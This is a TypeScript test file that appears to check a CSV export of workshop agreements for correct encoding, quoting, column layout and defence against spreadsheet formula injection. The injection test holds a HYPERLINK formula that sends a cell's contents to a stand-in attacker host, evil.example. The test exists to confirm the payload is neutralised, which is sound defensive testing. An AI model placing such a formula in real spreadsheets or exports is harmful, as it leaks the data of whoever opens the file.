import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { CSV_HEADERS, agreementsCsv } from "@/server/downloads/csv";
import { AGREEMENTS, EMPTY_REPORT, FULL_REPORT, LONG_WHAT, MULTILINE_NOTE, TRICKY_WHAT } from "./fixtures";
import { expectGolden } from "./golden";

/** Read back by csv-parse, an independent RFC 4180 parser, with CRLF as the only row end. */
function readBack(csv: string): string[][] {
  return parse(csv, { bom: true, record_delimiter: "\r\n", relax_quotes: false, relax_column_count: false }) as string[][];
}

const column = (name: string) => CSV_HEADERS.indexOf(name);

describe("agreements as CSV", () => {
  const csv = agreementsCsv(FULL_REPORT);
  const [header, ...rows] = readBack(csv);

  test("matches its golden file byte for byte", () => {
    expectGolden("agreements.csv", csv);
  });

  test("starts with a UTF-8 byte-order mark, so Excel reads Økonomi and één correctly", () => {
    expect([...Buffer.from(csv, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toContain("Økonomi");
    expect(csv).toContain("één");
  });

  test("has a header row and one row per agreement, every row as wide as the header", () => {
    expect(header).toEqual(CSV_HEADERS);
    expect(rows).toHaveLength(AGREEMENTS.length);
    for (const row of rows) expect(row).toHaveLength(CSV_HEADERS.length);
  });

  test("ends every row with CRLF; line breaks inside a cell stay inside its quotes", () => {
    expect(csv.endsWith("\r\n")).toBe(true);
    // Outside quoted fields, every LF belongs to a CRLF.
    const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, "");
    expect(outsideQuotes.match(/(?<!\r)\n/g)).toBeNull();
    expect(outsideQuotes.match(/\r\n/g)).toHaveLength(AGREEMENTS.length + 1);
  });

  test("every text comes back as written: quotes, commas, semicolons, line breaks, long text", () => {
    const byId = (id: string) => rows[AGREEMENTS.findIndex((a) => a.id === id)]!;
    expect(byId("a3")[column("What")]).toBe(TRICKY_WHAT);
    expect(byId("a3")[column("Owner")]).toBe('Seán O\'Brien, "Bob"; Jr.');
    expect(byId("a3")[column("Metric")]).toBe("reply time; median");
    expect(byId("a3")[column("Target")]).toBe("0,5 days");
    // CRLF and LF alike come back as LF, the line break Excel keeps inside a cell.
    expect(byId("a1")[column("Legal/audit note")]).toBe(MULTILINE_NOTE.replace(/\r\n/g, "\n"));
    expect(byId("a4")[column("What")]).toBe(LONG_WHAT);
    expect(byId("a4")[column("Legal/audit note")]).toBe("Audit signs off 🎉 before launch 👩🏽‍💻 ✅");
    expect(byId("c1")[column("Carried over from")]).toBe('Voorjaarssessie "samen", 2024');
  });

  test("shows each agreement's fields in their own columns", () => {
    const a1 = rows[0]!;
    const cells = Object.fromEntries(CSV_HEADERS.map((h, i) => [h, a1[i]]));
    expect(cells).toEqual({
      Kind: "Agreement",
      What: "Answer every complaint within één werkdag,\nand say who follows up",
      Owner: "Sanne de Vries",
      "Owner team": "Sales",
      Buddy: "Åse Ærlig",
      "Buddy team": "Økonomi",
      "Due date": "2025-04-30",
      "Review date": "2025-06-30",
      Metric: "error reports",
      Baseline: "10%",
      Target: "5%",
      "Legal/audit check needed": "yes",
      "Legal/audit note": MULTILINE_NOTE.replace(/\r\n/g, "\n"),
      "I'm in": "7",
      Status: "on track",
      Measured: "7.5%",
      Progress: "50%",
      "Carried over from": "",
    });
  });

  test("no buddy leaves the buddy cells empty; a metric without numbers leaves progress empty", () => {
    const a2 = rows[1]!;
    expect(a2[column("Buddy")]).toBe("");
    expect(a2[column("Buddy team")]).toBe("");
    expect(a2[column("Legal/audit check needed")]).toBe("no");
    expect(a2[column("Measured")]).toBe("");
    expect(a2[column("Progress")]).toBe("");
  });

  test("a carry-over says what it is for and where it was carried over from", () => {
    const c1 = rows[4]!;
    expect(c1[column("Kind")]).toBe("How colleagues who weren't here get a similar experience");
    expect(c1[column("Progress")]).toBe("30%");
  });

  test("no cell can run as a formula: those that would start with =, +, -, @, tab or CR start with an apostrophe", () => {
    const a2 = rows[1]!;
    expect(a2[column("What")]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"Click here")`);
    expect(a2[column("Owner")]).toBe("'+1 Anna");
    expect(a2[column("Owner team")]).toBe("'-2 Support");
    expect(a2[column("Metric")]).toBe("'@SUM(A1:A9)");
    expect(a2[column("Baseline")]).toBe("'\tten");
    expect(a2[column("Target")]).toBe("'\n5");
    // A negative number is neutralised too (accepted: a sign cannot be told from an attack).
    expect(rows[2]![column("Baseline")]).toBe("'-5%");
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("every other cell is exactly the text given", () => {
    for (const [i, a] of AGREEMENTS.entries()) {
      const row = rows[i]!;
      const plain = (value: string) => value.replace(/\r\n?/g, "\n").replace(/^(?=[=+\-@\t\r\n])/, "'");
      expect(row[column("What")]).toBe(plain(a.what));
      expect(row[column("Owner")]).toBe(plain(a.ownerName));
      expect(row[column("Owner team")]).toBe(plain(a.ownerTeam));
      expect(row[column("Metric")]).toBe(plain(a.metric.name));
      expect(row[column("Measured")]).toBe(plain(a.measured));
      expect(row[column("Due date")]).toBe(a.dueDate);
      expect(row[column("Review date")]).toBe(a.reviewDate);
      expect(row[column("I'm in")]).toBe(String(a.endorsements));
    }
  });

  test("a workshop without agreements gives the header row only", () => {
    const empty = agreementsCsv(EMPTY_REPORT);
    expectGolden("empty.csv", empty);
    expect(readBack(empty)).toEqual([CSV_HEADERS]);
  });
});
